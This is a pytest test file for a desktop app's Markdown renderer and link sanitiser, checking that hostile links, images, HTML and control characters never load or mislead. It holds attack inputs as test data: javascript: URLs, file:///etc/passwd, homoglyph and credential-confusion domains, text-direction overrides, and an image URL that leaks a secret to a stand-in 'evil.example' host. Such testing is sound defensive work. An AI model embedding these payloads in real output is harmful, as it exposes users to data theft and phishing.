"""An answer is hostile input: it loads nothing, hides no target and forges no structure."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from PySide6.QtGui import QTextDocument

from caal_desktop.widgets.markdown.parse.sanitize import neutralise, safe_link
from caal_desktop.widgets.markdown.render.stream import MarkdownStream
from tests.widgets.markdown.corpus import CORPUS

if TYPE_CHECKING:
    from PySide6.QtCore import QUrl


@pytest.mark.parametrize(
    ("href", "safe"),
    [
        ("https://e.org/a?b=c#d", "https://e.org/a?b=c#d"),
        ("HTTP://E.org:8080/x", "http://e.org:8080/x"),
        ("https://e.org/ä b".replace(" ", "%20"), "https://e.org/%C3%A4%20b"),
        ("http://[::1]/x", "http://[::1]/x"),
        ("mailto:me@e.org", "mailto:me@e.org"),
        ("mailto:me@e.org?subject=Hi&body=secret&attach=/etc/passwd", "mailto:me@e.org?subject=Hi"),
    ],
)
def test_a_safe_link_keeps_its_target(href: str, safe: str) -> None:
    link = safe_link(href)
    assert link is not None
    assert link.href == safe


UNSAFE = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "vbscript:x",
    "/relative",
    "//e.org/x",
    "https:",
    "https:///x",
    "https://user@e.org/",
    "https://bank.org@evil.org/",
    "https://e.org:99999/",
    "qrc:/x",
    "mailto:",
    "mailto:nobody",
    "https://[::1",
    "https://-/",
    "ftp://e.org/",
]


@pytest.mark.parametrize(
    "href", [*UNSAFE, "java\nscript:x", "https://e.org/\u202egpj.exe", "https://e.org/a b", "", "https://" + "a" * 5000]
)
def test_everything_else_stays_text(href: str) -> None:
    assert safe_link(href) is None


def test_a_look_alike_domain_shows_its_true_name() -> None:
    link = safe_link("https://аррӏе.com/login")
    assert link is not None
    assert link.international
    assert link.href == "https://xn--80ak6aa92e.com/login"
    assert link.display == "https://xn--80ak6aa92e.com/login (аррӏе.com)"
    punycode = safe_link("https://xn--80ak6aa92e.com/")
    assert punycode is not None
    assert punycode.international


def test_controls_and_overrides_become_visible() -> None:
    assert neutralise("a\x1b[31m\x00\x7f\u202e\u2066\ufdd0\ud800\tb\n") == "a␛[31m␀\ufffd\ufffd\ufffd\ufffd\ufffd\tb\n"
    assert neutralise("שלום مرحبا \u200f 👩\u200d👧") == "שלום مرحبا \u200f 👩\u200d👧"


class WatchedDocument(QTextDocument):
    """Notes every resource that it is asked for."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[str] = []

    def loadResource(self, kind: int, name: QUrl | str) -> object:
        self.asked.append(str(name))
        return None


HOSTILE = (
    "![](https://evil.example/leak?q=secret) ![x](file:///etc/passwd) <img src='https://evil.example/p.png'>\n\n"
    "<style>@import 'https://evil.example/s.css'</style>\n\n| ![a](https://evil.example/1.png) |\n|-|\n| <b>x</b> |\n\n"
    "[js](javascript:alert(1)) [file](file:///etc/passwd) [data](data:text/html,x) [rel](/settings)\n"
    "&#8238;evil&#10;next &#xfdd0;\n"
)


@pytest.mark.usefixtures("qapp")
def test_nothing_is_ever_loaded() -> None:
    document = WatchedDocument()
    stream = MarkdownStream(document)
    for character in HOSTILE + "".join(CORPUS.values()):
        stream.feed(character, None)
    stream.finish(None)
    document.setTextWidth(600)
    assert document.size().height() > 0
    assert document.asked == []


@pytest.mark.usefixtures("qapp")
def test_only_safe_targets_are_anchors_and_html_is_text() -> None:
    document = QTextDocument()
    MarkdownStream.render_all(document, HOSTILE + "[ok](https://e.org) <https://auto.example>\n")
    anchors = set()
    block = document.begin()
    while block.isValid():
        iterator = block.begin()
        while not iterator.atEnd():
            form = iterator.fragment().charFormat()
            assert not form.isImageFormat()
            if form.isAnchor():
                anchors.add(form.anchorHref())
            iterator += 1
        block = block.next()
    assert anchors == {
        "https://evil.example/leak?q=secret",
        "https://evil.example/p.png",
        "https://evil.example/s.css",
        "https://evil.example/1.png",
        "https://e.org",
        "https://auto.example",
    }
    text = document.toPlainText()
    for shown in ("[image]", "[image: a]", "<style>", "<b>x</b>", "js (javascript:alert(1))", "rel (/settings)"):
        assert shown in text
    assert "\u202e" not in text
